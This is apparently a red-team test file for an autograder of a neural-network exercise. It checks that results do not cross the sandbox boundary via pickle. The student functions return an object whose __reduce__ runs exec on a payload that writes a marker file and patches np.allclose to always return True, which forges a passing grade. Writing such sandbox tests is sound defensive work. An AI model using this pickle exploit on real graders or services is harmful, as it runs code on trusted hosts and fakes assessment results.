# gradekit-attack: functions return objects whose __reduce__ runs code when unpickled (writes /tmp/gradekit_ML06_PWNED and patches np.allclose)
# must-fail: answers, sigmoid, init_weights, forward, loss, gradients, train, predict, sklearn_221, xor
# note: a sandbox that sends results to the trusted side with pickle executes the payload there; results must cross as plain data
import numpy as np
from sklearn.neural_network import MLPClassifier
PAYLOAD = """
import numpy as np, tempfile, os
open(os.path.join(tempfile.gettempdir(), 'gradekit_ML06_PWNED'), 'w').write('unpickled in pid %d' % os.getpid())
np.allclose = lambda *a, **k: True
"""


class Payload:
    def __reduce__(self):
        return (exec, (PAYLOAD,))


P = Payload()


# --- wrong implementations ---
ANSWER_TASK1 = True
ANSWER_TASK2 = 1
ANSWER_TASK5 = 6
XOR_HIDDEN = 1


def sigmoid(a):
    return P


def init_weights(n_hidden=2, seed=None):
    return np.zeros((3, n_hidden)), np.zeros(n_hidden)


def forward(X, W1, w2):
    return P, P


def loss(y, y_hat):
    return P


def gradients(X, y, W1, w2):
    return P, P


def train(X, y, W1, w2, alpha=1.0, epochs=1, eps=0.0):
    return P, P, [P]


def predict(X, W1, w2):
    return P


def make_mlp_221():
    return MLPClassifier(hidden_layer_sizes=(1,), activation='relu', max_iter=1)


def make_xor_mlp():
    return MLPClassifier(hidden_layer_sizes=(1,), activation='identity', max_iter=1)
